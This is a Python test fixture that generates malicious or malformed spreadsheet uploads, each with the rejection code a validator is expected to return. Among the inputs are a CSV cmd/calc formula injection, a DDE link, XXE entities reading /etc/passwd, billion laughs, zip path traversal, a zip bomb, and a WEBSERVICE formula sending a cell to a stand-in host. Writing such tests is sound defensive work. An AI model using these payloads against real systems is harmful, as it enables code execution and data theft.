"""A folder of files that nobody should have uploaded, each made by a few lines.

`FILES`: name -> (maker, what must come of it). The outcome is `refused:<code>` for the whole file,
`header:<code>` or `row:<code>` for what is said inside, `fine` for what only looks bad.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

from openpyxl import Workbook
from openpyxl.packaging.custom import StringProperty

from tests.workbooks.books import SHEET, as_excel, bent, filled
from tests.workbooks.collection import COLLECTION, HEADER, number, person
from unionhall.workbooks.marks import PROPERTY, mark

Maker = Callable[[], bytes]


def good() -> bytes:
    return filled([person(serial) for serial in range(1, 4)])


def spoiled(bend: Callable[[Any], Any]) -> bytes:
    return filled([person(1), person(2)], bend=bend)


def part(name: str, change: Callable[[bytes], bytes | None]) -> bytes:
    return bent(good(), {name: change})


def instead(old: str, new: str) -> Callable[[bytes], bytes]:
    def change(content: bytes) -> bytes:
        assert old.encode() in content, old
        return content.replace(old.encode(), new.encode(), 1)

    return change


def sheet(old: str, new: str) -> bytes:
    return part(SHEET, instead(old, new))


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def bomb_of_noise(name: str, size: int) -> bytes:
    """A part that is too long without being packed too well."""
    noise = b"".join(
        struct.pack("<Q", (n * 6364136223846793005 + 1) % (1 << 64)) for n in range(4_096)
    )
    return part(name, lambda _: noise * (size // len(noise) + 1))


def by_hand(text: str) -> bytes:
    """The template typed off, with the mark of another one."""
    book = Workbook()
    page = book.active
    page.title = COLLECTION.sheet
    for place, words in COLLECTION.anchors:
        page[place] = words
    for one in COLLECTION.header:
        page[one.label_cell], page[one.cell] = one.title, HEADER[one.key]
    for place, column in enumerate(COLLECTION.columns, start=1):
        page.cell(6, place, column.title)
        page.cell(7, place, person().get(column.key))
    book.custom_doc_props.append(StringProperty(name=PROPERTY, value=text))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def error_cell() -> bytes:
    return filled([person()], bend=lambda page: page.__setitem__("I7", "#REF!"))


def typed_off() -> bytes:
    return by_hand(mark(COLLECTION))


def long_table() -> bytes:
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(100, 51_000)
    )
    return part(SHEET, instead("</sheetData>", rows.decode() + "</sheetData>"))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
ROWS: list[tuple[str, str, Maker]] = [
    # no workbook at all
    ("empty.xlsx", "refused:empty-file", lambda: b""),
    ("one-byte.xlsx", "refused:other", lambda: b"\x00"),
    ("old.xls", "refused:old-excel", lambda: OLE + wide("Root Entry") + wide("Workbook")),
    ("very-old.xls", "refused:old-excel", lambda: b"\x09\x08\x10\x00" + b"\x00" * 100),
    ("password.xlsx", "refused:encrypted", lambda: OLE + wide("EncryptedPackage")),
    ("letter.doc", "refused:document", lambda: OLE + wide("WordDocument")),
    ("unknown-compound", "refused:other", lambda: OLE + b"\x00" * 2_000),
    ("list.csv", "refused:csv", lambda: "姓名,证件号码\n张晓明,790101199001011234\n".encode()),
    ("list-gbk.csv", "refused:csv", lambda: "姓名,证件号码\n张晓明,1\n".encode("gb18030")),
    ("formula.csv", "refused:csv", lambda: b"=cmd|' /C calc'!A0,2\n"),
    ("unicode.txt", "refused:csv", lambda: "姓名\t号码\n".encode("utf-16")),
    ("plain.txt", "refused:text", lambda: "名单稍后补交".encode()),
    ("page.xls", "refused:web-page", lambda: b"<html><table><tr><td>1</td></tr></table></html>"),
    ("2003.xml", "refused:xml-2003", lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
    ("other.xml", "refused:other", lambda: b'<?xml version="1.0"?><root/>'),
    ("scan.pdf", "refused:pdf", lambda: b"%PDF-1.7\n%..."),
    ("photo.png", "refused:picture", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 50),
    ("list.rar", "refused:packed", lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 50),
    ("program.exe", "refused:other", lambda: b"MZ" + b"\x00" * 100),
    ("calc.ods", "refused:ods", lambda: packed({"mimetype": b"application/vnd.oasis", "content.xml": b"<x/>"})),
    ("letter.docx", "refused:document", lambda: packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})),
    ("talk.pptx", "refused:document", lambda: packed({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"})),
    ("apple.numbers", "refused:numbers", lambda: packed({"Index/Document.iwa": b"x"})),
    ("archive.zip", "refused:packed", lambda: packed({"名单.xlsx": b"PK"})),
    ("binary.xlsb", "refused:xlsb", lambda: packed({"[Content_Types].xml": b'<Types><x ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>', "xl/workbook.bin": b"x"})),
    # zip tricks
    ("cut-off.xlsx", "refused:damaged", lambda: good()[:2_000]),
    ("no-end.xlsx", "refused:damaged", lambda: good()[:-30]),
    ("only-start.xlsx", "refused:damaged", lambda: b"PK\x03\x04" + b"\x00" * 200),
    ("empty-zip.xlsx", "refused:damaged", lambda: b"PK\x05\x06" + b"\x00" * 18),
    ("macros.xlsm", "refused:macros", lambda: part("xl/vbaProject.bin", lambda _: b"\xd0\xcf")),
    ("macro-type.xlsm", "refused:macros", lambda: part("[Content_Types].xml", instead("spreadsheetml.sheet.main", "sheet.macroEnabled.main"))),
    ("old-macros.xlsx", "refused:macros", lambda: part("xl/macrosheets/sheet1.xml", lambda _: b"<x/>")),
    ("embedded.xlsx", "refused:embedded", lambda: part("xl/embeddings/oleObject1.bin", lambda _: b"x")),
    ("connections.xlsx", "refused:connections", lambda: part("xl/connections.xml", lambda _: b"<x/>")),
    ("dde.xlsx", "refused:program-links", lambda: part("xl/externalLinks/externalLink1.xml", lambda _: b'<externalLink><ddeLink ddeService="cmd"/></externalLink>')),
    ("other-workbook.xlsx", "fine", lambda: part("xl/externalLinks/externalLink1.xml", lambda _: b"<externalLink><externalBook/></externalLink>")),
    ("climbs-out.xlsx", "refused:damaged", lambda: part("../../etc/passwd", lambda _: b"x")),
    ("absolute.xlsx", "refused:damaged", lambda: part("/etc/passwd", lambda _: b"x")),
    ("twice.xlsx", "refused:damaged", lambda: part("XL/Worksheets/Sheet1.xml", lambda _: b"<x/>")),
    ("many-parts.xlsx", "refused:too-many-parts", lambda: packed({f"p{n}": b"" for n in range(2_500)})),
    ("bomb.xlsx", "refused:bomb", lambda: part("xl/media/zeros.bin", lambda _: b"\x00" * (20 << 20))),
    ("long-styles.xlsx", "refused:part-too-big", lambda: bomb_of_noise("xl/styles.xml", 17 << 20)),
    ("many-sheets.xlsx", "refused:too-many-sheets", lambda: bent(good(), {f"xl/worksheets/sheet{n}.xml": lambda _: b"<x/>" for n in range(10, 80)})),
    ("lzma.xlsx", "refused:damaged", lambda: packed({"[Content_Types].xml": b"x"}, zipfile.ZIP_LZMA)),
    ("no-types.xlsx", "refused:damaged", lambda: part("[Content_Types].xml", lambda _: None)),
    # XML tricks
    ("laughs.xlsx", "refused:declares-entities", lambda: sheet("<worksheet", '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><worksheet')),
    ("reads-files.xlsx", "refused:declares-entities", lambda: part("xl/workbook.xml", lambda c: b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + c.partition(b"?>")[2] if c.startswith(b"<?xml") else b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + c)),
    ("not-xml.xlsx", "refused:damaged", lambda: part(SHEET, lambda _: b"this is no sheet")),
    ("half-xml.xlsx", "refused:damaged", lambda: part(SHEET, lambda c: c[: len(c) // 2])),
    ("no-sheet-part.xlsx", "header:sheet", lambda: part(SHEET, lambda _: None)),
    ("bad-shared-text.xlsx", "refused:damaged", lambda: bent(as_excel(good()), {SHEET: instead('t="s"><v>', 't="s"><v>99')})),
    ("strings-not-xml.xlsx", "refused:damaged", lambda: part("xl/sharedStrings.xml", lambda _: b"<sst>")),
    ("styles-not-xml.xlsx", "refused:damaged", lambda: part("xl/styles.xml", lambda _: b"<styleSheet")),
    ("far-cell.xlsx", "refused:far-cell", lambda: sheet('r="B7"', 'r="ZZZZ7"')),
    ("far-row.xlsx", "refused:far-cell", lambda: sheet('<row r="9"', '<row r="99999999"')),
    ("corner.xlsx", "header:last-column", lambda: spoiled(lambda s: s.__setitem__("XFD1048576", "x"))),
    ("corner-row.xlsx", "row:required", lambda: spoiled(lambda s: s.__setitem__("A1048576", "x"))),
    ("rows-backwards.xlsx", "refused:row-order", lambda: sheet('<row r="8"', '<row r="3"')),
    ("row-twice.xlsx", "refused:row-order", lambda: sheet('<row r="8"', '<row r="7"')),
    ("cell-twice.xlsx", "refused:row-order", lambda: sheet('r="B7"', 'r="A7"')),
    ("dimension-lies.xlsx", "fine", lambda: part(SHEET, lambda c: c.replace(b"A1:M9", b"A1:XFD1048576"))),
    ("many-merges.xlsx", "refused:too-many-merges", lambda: sheet("</sheetData>", "</sheetData><mergeCells>" + '<mergeCell ref="B7:B8"/>' * 5_001 + "</mergeCells>")),
    ("novel.xlsx", "refused:cell-too-long", lambda: sheet("<is><t>", "<is><t>" + "长" * 140_000)),
    # the template bent
    ("no-mark.xlsx", "header:no-version", lambda: bent(good(), {"docProps/custom.xml": lambda _: b"<Properties/>", "xl/workbook.xml": instead("_unionhall_template", "_other")})),
    ("old-version.xlsx", "header:version", lambda: by_hand("collection@2025.9")),
    ("other-template.xlsx", "header:other-template", lambda: by_hand("roster@1")),
    ("renamed-sheet.xlsx", "header:sheet", lambda: spoiled(lambda s: setattr(s, "title", "Sheet1"))),
    ("hidden-sheet.xlsx", "header:hidden-sheet", lambda: spoiled(lambda s: setattr(s, "sheet_state", "hidden"))),
    ("hidden-column.xlsx", "header:hidden-column", lambda: spoiled(lambda s: setattr(s.column_dimensions["D"], "hidden", True))),
    ("column-added.xlsx", "header:last-column", lambda: spoiled(lambda s: s.__setitem__("N6", "电话"))),
    ("note-beside.xlsx", "header:last-column", lambda: spoiled(lambda s: s.__setitem__("P8", "已核对"))),
    ("column-gone.xlsx", "header:last-column", lambda: spoiled(lambda s: s.delete_cols(13))),
    ("columns-swapped.xlsx", "header:head", lambda: spoiled(lambda s: (s.__setitem__("B6", "证件号码"), s.__setitem__("C6", "姓名")))),
    ("merged-header.xlsx", "header:header-merged", lambda: spoiled(lambda s: s.merge_cells("A2:M2"))),
    ("no-rows.xlsx", "header:no-rows", lambda: filled([])),
    # rows bent
    ("merged-rows.xlsx", "row:merged", lambda: spoiled(lambda s: s.merge_cells("I7:I8"))),
    ("hidden-row.xlsx", "row:hidden", lambda: spoiled(lambda s: setattr(s.row_dimensions[8], "hidden", True))),
    ("numbers.xlsx", "row:not-text", lambda: filled([person(document_no=790101199001011234)])),
    ("formula.xlsx", "row:formula", lambda: filled([person(name="=CONCATENATE(\"张\",\"三\")")])),
    ("webservice.xlsx", "row:formula", lambda: filled([person(remark='=WEBSERVICE("http://x.test/?"&B7)')])),
    ("error-cell.xlsx", "row:error-cell", error_cell),
    ("cyrillic.xlsx", "row:look-alike", lambda: filled([person(document_no=number(1)[:17] + "Х" if number(1)[17] == "X" else "7901О1199001011234")])),
    ("greek-name.xlsx", "row:look-alike", lambda: filled([person(name="Jοhn")])),
    ("blank-name.xlsx", "row:inner-blank", lambda: filled([person(name="张　三")])),
    ("control.xlsx", "row:format", lambda: filled([person(name="张_x0000_三")])),
    ("full-width.xlsx", "fine", lambda: filled([person(mobile="１５４００００００01")])),
    ("long-text.xlsx", "row:too-long", lambda: filled([person(remark="长" * 30_000)])),
    ("typed-off.xlsx", "fine", typed_off),
    ("long-table.xlsx", "header:too-many-rows", long_table),
    ("1904.xlsx", "fine", lambda: part("xl/workbook.xml", instead("<workbookPr", '<workbookPr date1904="1"'))),
]  # fmt: skip
FILES = {name: (maker, outcome) for name, outcome, maker in ROWS}
